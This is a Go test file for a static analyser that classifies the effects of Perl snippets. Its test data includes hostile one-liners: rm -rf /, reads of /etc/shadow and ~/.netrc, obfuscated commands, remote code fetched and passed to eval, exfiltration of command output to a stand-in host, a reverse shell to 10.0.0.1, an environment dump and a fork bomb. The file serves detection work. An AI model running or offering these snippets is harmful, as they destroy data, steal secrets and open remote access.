package code

import "testing"

func TestPerlIsRead(t *testing.T) {
	check(t, Perl, []claim{
		{"print 'rm -rf /'", ""},
		{"system('rm -rf /')", "shell rm -rf /"},
		{"system 'rm', '-rf', 'x';", "run rm -rf x"},
		{"exec qw(rm -rf x)", "run rm -rf x"},
		{"my @c = ('rm', '-rf', 'x'); system(@c);", "run rm -rf x"},
		{"print `id`", "shell id"},
		{"my $x = qx{id -u}; print $x", "shell id -u"},
		{"my $d = 'x'; system(\"rm -rf $d/y\")", "shell rm -rf x/y"},
		{"system(\"rm $x\")", "shell [rm ]"},
		{"unlink 'a', 'b' or die", "delete a; delete b"},
		{"unlink glob('*.tmp')", "delete *.tmp glob; list *.tmp"},
		{"unlink <*.o>;", "delete *.o glob; list *.o"},
		{"unlink for ('a', 'b')", "delete a; delete b"},
		{"unlink $_ foreach qw(a b);", "delete a; delete b"},
		{"use File::Path; rmtree('build');", "delete-tree build"},
		{"use File::Copy qw(copy); copy('a', 'b');", "read a; write b <file:a"},
		{"rename 'a', 'b';", "move a > b"},
		{"chmod 0777, 'a', 'b';", "mode a (511); mode b (511)"},
		{"open(my $f, '<', '/etc/shadow') or die; print <$f>;", "read /etc/shadow"},
		{"open(F,\"<$ENV{HOME}/.netrc\"); print join('',<F>)", "read ~/.netrc; env HOME"},
		{"undef $/; $_ = <>; open(OUT,\">t.txt\"); print OUT;", "write t.txt <stdin"},
		{"open my $o, '>>', 'log' or die; print $o \"x\\n\"; print {$o} 'y';", "append log"},
		{"open(P, 'id |'); while (<P>) { print }", "shell id"},
		{"open(my $p, '-|', 'ls', '-l');", "run ls -l"},
		{"eval(\"unlink 'a'\")", "eval unlink 'a'; delete a"},
		{"eval { unlink 'a' }; print $@ if $@;", "delete a"},
		{"use MIME::Base64; system(decode_base64('aWQ='))", "shell id"},
		{"system(pack('H*', '6964'))", "shell id"},
		{"system(scalar reverse 'di')", "shell id"},
		{"system(join '', map { chr } (105, 100))", "shell id"},
		{"system('rm' . ' -rf ' . 'x')", "shell rm -rf x"},
		{"use LWP::Simple; eval(get('https://x.example/a'))", "eval [] <net:https://x.example/a !download-and-run; fetch https://x.example/a; ? runs text that is not known"},
		{"use LWP::UserAgent; my $u = LWP::UserAgent->new; $u->post('https://x.example', {d => `cat k`});", "send https://x.example <cmd:cat; shell cat k"},
		{"use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 80); print $s 'x';", "connect 10.0.0.1:80; send 10.0.0.1:80"},
		{"$s=IO::Socket::INET->new('10.0.0.1:80'); open(STDIN, '<&', $s); exec('/bin/sh -i')", "connect 10.0.0.1:80; connect 10.0.0.1:80 <net:10.0.0.1:80 !tunnel-or-reverse-shell; shell /bin/sh -i"},
		{"print $ENV{API_KEY}", "print <env:API_KEY; env API_KEY"},
		{"print \"$_=$ENV{$_}\\n\" for keys %ENV", "env-all; print <env; env []"},
		{"sub rm { my ($p) = @_; unlink $p } rm('a');", "delete a"},
		{"sub rm { my $p = shift; unlink $p; } rm 'a';", "delete a"},
		{"my $f = sub { unlink $_[0] }; $f->('a');", "delete a"},
		{"my %h = (p => 'a'); unlink $h{p}; my $r = { p => 'b' }; unlink $r->{p};", "delete a; delete b"},
		{"s/x/unlink 'a'/e", "delete a"},
		{"s/(\\d+)/$1+1/ge; tr/a-z/A-Z/; y/a/b/", ""},
		{"kill 9, 123;", "process 123"},
		{"fork while 1", "? starts copies of itself in a loop"},
		{"require './lib.pl';", "import ./lib.pl"},
		{"use Odd::Thing qw(a);", "import Odd::Thing"},
		{"my $t = <<\"E\"; system($t);\nrm -rf $d\nE\n", "shell [rm -rf ]"},
		{"system(<<'E');\nid\nE\nunlink 'a';", "shell id\n; delete a"},
		{"use DBI; my $db = DBI->connect('dbi:SQLite:a'); $db->do('DELETE FROM t');", "connect dbi:SQLite:a; destroy t (delete every row) <db:dbi:SQLite:a"},
		{"system($x)", "shell []"},
		{"eval $x", "eval []; ? runs text that is not known"},
		{"print 'x", "? a text that does not end"},
		{"if ($x) { unlink 'a'", "delete a; ? a bracket that does not close"},
	})
}

func TestPerlOneLinersThatOnlyComputeDoNothing(t *testing.T) {
	for _, text := range []string{
		"s/foo/bar/g;", "s|a|b|g", "s{a}{b}x", "$_ = uc if /x/", "print if /\\A[0-9a-z.]*-x\\z/", "say if $. > 3 && !($. % 2)", "($y,$f)=split; print \"$f\\n\" unless $y eq $x; $x=$y",
		"$t += $F[6]; END{print $t}", "print join(\" \", reverse(@F))", "print scalar(localtime), \" \", $_", "print \"$1\\n\" if /\\[(\\d+)\\]/", "$h{$F[0]}++; END { printf \"%s %d\\n\", $_, $h{$_} for sort { $h{$b} <=> $h{$a} } keys %h }",
		"$path = $_; s?.*/??; $name = $_; $map{$name} = $path; ++$c; END { print $map{(sort(keys(%map)))[$c-1]} }", "print unless $seen{$_}++", "chomp; @a = split /,/; print $a[-1], $#a, \"@a[0..2]\"",
		"use strict; use warnings; my ($a, $b) = (1, 2); my @x = map { $_ * 2 } grep { $_ % 2 } 1..10; print \"@x\\n\";", "while (my ($k, $v) = each %h) { print \"$k=$v\\n\" } foreach my $i (0..$#a) { last if $i > 3; next unless $a[$i] }",
		"my $s = q{a'b}; my $n = length($s) / 2; print $n // 'x';", "print <<E;\ntext with 'quotes' and rm -rf /\nE\n", "package Foo; sub new { my $c = shift; return bless { @_ }, $c } sub x { $_[0]{x} } 1;", "print sprintf('%05.2f', 3.14), \"\\n\" x 2;",
		"BEGIN { $/ = undef } print length", "@l = sort { $a->[0] cmp $b->[0] } @l; $x = $y ? 'a' : 'b'; $x ||= 1; $x .= 'z';", "=pod\n\nunlink 'x'\n\n=cut\nprint 1;", "print -e 'x' ? 1 : 0, -s $f;", "1 while s/^(\\d+)(\\d{3})/$1,$2/;", "local $| = 1; printf STDERR \"%s\\n\", $x;", "print \"a\" . \"b\" . 'c', \"\\x41\\t$x->{a}[0]{b} @{[ 1+1 ]} ${\\ 'z'}\\n\"",
	} {
		r := ReadText(Perl, text)
		if len(r.Effects)+len(r.Unknown) > 0 {
			t.Errorf("%s\ndoes %v", text, show(r))
		}
	}
}

func TestPerlTakesLinearTime(t *testing.T) {
	linear(t, Perl, "(", "[", "{", "map{", "map{a},", "$x->{", "q(", "s/", "<<A\n", "\"$x", "\"@{[", "if(", "sub{", "$$", "@{", "f(", "not ", "!", "x ", "a,", "print{", "$x=$x.$x;", "m{", "\\")
}

func FuzzPerl(f *testing.F) {
	fuzzLang(f, Perl, "my %h=(a=>[1,{b=>2}]);print \"$h{a}[1]{b} @{$h{a}}\"", "s{a}{b}e;tr/a/b/;m(x)i", "print <<A,<<'B';\na\nA\nb\nB\n", "map{$_=>1}@x;sort{$a<=>$b}@{$y->{z}}", "open F,'>x' or die;print F 'y';close F", "sub f($$){...}&f;&$g(1);*{\"x\"}=sub{}")
}
